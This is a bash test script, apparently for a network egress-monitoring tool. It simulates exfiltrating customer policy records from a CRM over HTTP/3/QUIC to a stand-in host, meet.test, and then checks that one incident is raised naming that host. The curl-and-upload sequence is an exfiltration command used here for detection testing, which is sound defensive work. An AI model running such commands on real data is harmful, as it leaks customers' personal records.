#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
#
# An unknown host, by QUIC. Customer rows go by HTTP/3 to a server that nothing names but the hello
# in the sender's first datagram, whose keys everybody can derive who sees it.
# shellcheck source=tests/support/fixture.sh
. "$(dirname "$0")/../support/fixture.sh"
set_the_stage

crm_serves crm.test
quic_serves meet.test
weir_watches

alice_does <<'END'
for number in 1 2 3; do
	curl -sS "https://crm.test/policy/P20207000$number" >>customers.json
done
gtlsclient -q --exit-on-all-streams-close --timeout=5s -m POST \
	--data=customers.json meet.test 443 https://meet.test/upload
END
rows_bytes=$(stat -c %s "$home/customers.json")

soon "one incident" incidents_say "len(d) == 1"
soon "it names the host that the hello asked for" \
	incidents_say "[(s['name'], s['host'], s['host_source'], s['address']) for s in d[0]['sinks']] == [('', 'meet.test', 'tls_server_name', '10.77.0.50')]"
soon "it went by UDP, all of it" \
	events_say "max(e['bytes'] for e in d if e['kind'] == 'egress' and e['object']['name'] == '10.77.0.50:443/udp') >= $rows_bytes"
